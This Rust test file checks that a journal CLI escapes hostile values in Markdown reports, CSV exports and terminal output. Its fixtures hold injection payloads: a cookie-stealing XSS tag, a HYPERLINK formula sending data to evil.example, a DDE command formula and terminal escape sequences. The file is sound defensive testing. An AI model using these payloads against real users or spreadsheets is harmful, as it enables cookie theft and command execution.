//! Outputs that cannot be turned against their reader (issue 15): values that came from a
//! calendar invite, an import or a paste — markup, formulas, terminal escapes — are written as
//! text in a Markdown report, neutralised in CSV, and shown without acting on a terminal.

use crate::common::TestEnv;

/// A journal whose names, reasons and notes hold Markdown, HTML, formulas and terminal escapes:
/// what an attacker can put in a calendar invite's attendee list or an export.
fn hostile() -> TestEnv {
    let env = TestEnv::new();
    let network = "Club | Pipe *star* _under_";
    env.ok([
        "add",
        "network",
        network,
        "--kind",
        "local",
        "--joined",
        "2024-01-10",
    ]);
    env.ok([
        "log",
        "meeting",
        "--network",
        network,
        "--date",
        "2024-02-06",
        "--format",
        "breakfast",
        "--met",
        "<img src=x onerror=alert(document.cookie)>",
        "--met",
        "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
        "--notes",
        "=cmd|' /C calc'!A0",
    ]);
    // Met twice in a network still attended: the report's next steps suggest a coffee with
    // them, by name.
    env.ok([
        "add",
        "network",
        "Open Club",
        "--kind",
        "local",
        "--joined",
        "2024-01-10",
    ]);
    for date in ["2024-02-13", "2024-03-12"] {
        env.ok([
            "log",
            "meeting",
            "--network",
            "Open Club",
            "--date",
            date,
            "--format",
            "lunch",
            "--met",
            "<img src=x onerror=alert(document.cookie)>",
        ]);
    }
    env.ok([
        "note",
        "[click me](javascript:alert(1))\n# Injected heading\n| a | b |",
        "--network",
        network,
        "--concern",
        "--date",
        "2024-02-10",
    ]);
    env.ok([
        "leave",
        "network",
        network,
        "--date",
        "2024-03-01",
        "--reason",
        "they said `rm -rf`\n# Another heading\n<script>alert(1)</script>",
    ]);
    env
}

#[test]
fn markdown_report_writes_user_values_as_text() {
    let env = hostile();
    let md = env.ok(["report", "--format", "md"]);
    // No raw HTML, no heading of the user's, no table broken by a pipe.
    assert_eq!(unescaped(&md, '<'), 0, "{md}");
    assert_eq!(unescaped(&md, '>'), 0, "{md}");
    assert!(
        md.contains("Have a coffee with \\<img src=x onerror=alert(document.cookie)\\>"),
        "{md}"
    );
    assert!(md.contains("\\<script\\>alert(1)\\</script\\>"), "{md}");
    for line in md.lines() {
        assert!(
            !line.starts_with("# Injected") && !line.starts_with("# Another"),
            "a user value became a heading: {line:?}\n{md}"
        );
    }
    assert!(md.contains("Club \\| Pipe \\*star\\* \\_under\\_"), "{md}");
    // Every row of the summary table has as many cell edges as its header.
    let table: Vec<&str> = md
        .lines()
        .skip_while(|line| !line.starts_with('|'))
        .take_while(|line| line.starts_with('|'))
        .collect();
    assert!(table.len() >= 3, "{md}");
    let edges = unescaped(table[0], '|');
    assert!(
        table.iter().all(|line| unescaped(line, '|') == edges),
        "{md}"
    );
    assert!(
        md.contains("\\[click me\\](javascript:alert(1)) # Injected heading \\| a \\| b \\|"),
        "{md}"
    );
}

/// How many times `mark` appears in `text` without a backslash before it.
fn unescaped(text: &str, mark: char) -> usize {
    let mut count = 0;
    let mut escaped = false;
    for c in text.chars() {
        if escaped {
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == mark {
            count += 1;
        }
    }
    count
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_written_as_text_unless_raw() {
    let env = hostile();
    let csv = env.path("meetings.csv");
    let run = env.run([
        "export",
        "--format",
        "csv",
        "--what",
        "meetings",
        "--output",
        csv.to_str().unwrap(),
    ]);
    assert_eq!(run.code(), Some(0), "{}", run.stderr());
    run.stderr_contains("1 cell started with =, +, -, @")
        .stderr_contains("--raw");
    let written = std::fs::read_to_string(&csv).unwrap();
    let mut reader = csv::Reader::from_reader(written.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let first = reader.records().next().unwrap().unwrap();
    assert_eq!(&first[column("notes")], "'=cmd|' /C calc'!A0");
    assert!(!first[column("contacts")].starts_with('='), "{first:?}");
    // Dates, uuids and numbers as they are.
    assert_eq!(&first[column("date")], "2024-02-06");
    assert!(!first[column("uuid")].starts_with('\''));

    // The same through `list`, on the standard output; French too.
    let run = env.run(["--lang", "fr", "list", "contacts", "--format", "csv"]);
    assert_eq!(run.code(), Some(0));
    run.stdout_contains("'=HYPERLINK(")
        .stderr_contains("1 cellule commençait par =, +, -, @");
    // `--raw`: as stored, and nothing said.
    env.run(["list", "contacts", "--format", "csv", "--raw"])
        .success()
        .stdout_contains("\"=HYPERLINK(")
        .stdout_lacks("'=HYPERLINK(");
    env.run(["list", "networks", "--format", "csv"])
        .success()
        .stdout_lacks("'");
}

/// Writes `value` into `column` of every row of `table`, straight into the journal file: text
/// no command accepts, as a journal written by an older netjournal or another tool may hold.
fn stored(env: &TestEnv, table: &str, column: &str, value: &str) {
    env.sql()
        .execute(&format!("UPDATE {table} SET {column} = ?1"), [value])
        .unwrap();
}

#[test]
fn stored_control_characters_are_shown_not_obeyed_on_a_terminal() {
    let env = TestEnv::with_journal();
    let escape = "\u{1b}]0;pwned\u{7}\u{1b}[2J";
    stored(&env, "notes", "body", &format!("paid\rFREE {escape}"));
    stored(
        &env,
        "networks",
        "exit_reason",
        &format!("left\rstayed {escape}"),
    );
    env.sql()
        .execute(
            "UPDATE networks SET name = name || ?1 WHERE name = 'BNI Montpellier'",
            [escape],
        )
        .unwrap();
    let runs = [
        env.ok(["list", "notes"]),
        env.ok(["list", "networks"]),
        env.ok(["show", "network", "CPME Hérault"]),
        env.ok(["report"]),
        env.ok(["rm", "note", "1", "--yes"]),
        env.ok([
            "leave",
            "network",
            "Freelances Montpellier",
            "--reason",
            "done",
        ]),
    ];
    for out in &runs {
        assert!(
            !out.contains('\u{1b}'),
            "an escape reached the terminal:\n{out}"
        );
        assert!(
            !out.contains('\r'),
            "a carriage return reached the terminal:\n{out}"
        );
        assert!(
            !out.contains('\u{7}'),
            "a bell reached the terminal:\n{out}"
        );
    }
    assert!(runs[0].contains("paid�FREE"), "{}", runs[0]);
    assert!(runs[3].contains("�]0;pwned�"), "{}", runs[3]);
    // An error that quotes a stored name (a "did you mean" hint) too.
    let run = env.run(["show", "network", "BNI Montpelier"]);
    run.bad_input()
        .stderr_contains("did you mean `BNI Montpellier�]0;pwned��[2J`?");
    assert!(!run.stderr().contains('\u{1b}'), "{}", run.stderr());
}

#[test]
fn a_typed_value_with_control_characters_is_refused_and_quoted_without_them_acting() {
    let env = TestEnv::with_journal();
    for lang in ["en", "fr"] {
        let run = env.rejects(
            ["--lang", lang, "note", "paid\rFREE\u{1b}[2J"],
            "paid\\rFREE",
        );
        assert!(!run.stderr().contains('\r') && !run.stderr().contains('\u{1b}'));
    }
}
